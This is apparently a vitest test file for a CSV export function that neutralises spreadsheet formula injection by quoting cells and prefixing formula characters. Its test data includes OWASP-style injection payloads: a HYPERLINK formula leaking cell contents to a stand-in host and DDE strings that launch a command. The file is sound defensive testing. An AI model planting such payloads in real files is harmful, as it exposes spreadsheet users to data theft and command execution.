import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { spreadsheetSafeCsv } from "./csv";

// Cells that try to make a spreadsheet run something (OWASP "CSV Injection" examples and variants) or to break
// the file's structure.
const HOSTILE = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1\nsecond line",
  '"=1+1"',
  'a "quoted" word, and a comma',
  "line one\r\nline two",
  "",
  "plain text",
  "  =leading spaces stay as they are",
];

describe("spreadsheetSafeCsv", () => {
  const text = spreadsheetSafeCsv([["value", "kind"], ...HOSTILE.map((value, index) => [value, index])]);

  it("quotes every cell, header included", () => {
    // Read back with papaparse (a reference CSV reader): the same cells, each written between quotes.
    const parsed = Papa.parse<string[]>(text.trimEnd(), { newline: "\n" });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(HOSTILE.length + 1);
    expect(text.startsWith('"value","kind"\n')).toBe(true);
    for (const value of ["plain text", "", "a \"\"quoted\"\" word, and a comma"]) expect(text).toContain(`"${value}"`);
  });

  it("prefixes every cell that starts with =, +, -, @, tab or CR with an apostrophe, and only those", () => {
    const parsed = Papa.parse<string[]>(text.trimEnd(), { newline: "\n" });
    const cells = parsed.data.slice(1).map((row) => row[0]);
    HOSTILE.forEach((value, index) => {
      const expected = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
      expect(cells[index]).toBe(expected);
    });
    // Nothing the reader gets back starts with a formula character.
    for (const row of parsed.data) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("prefixes a formula that continues on a second line (papaparse's own default misses it)", () => {
    expect(spreadsheetSafeCsv([["=1+1\nrest"]])).toBe("\"'=1+1\nrest\"\n");
  });

  it("writes numbers as their text, negative ones prefixed like any cell starting with -", () => {
    expect(spreadsheetSafeCsv([[12, 0.5, -0.5, null, undefined, true]])).toBe(`"12","0.5","'-0.5","","","true"\n`);
  });

  it("writes nothing for no rows", () => {
    expect(spreadsheetSafeCsv([])).toBe("");
  });
});
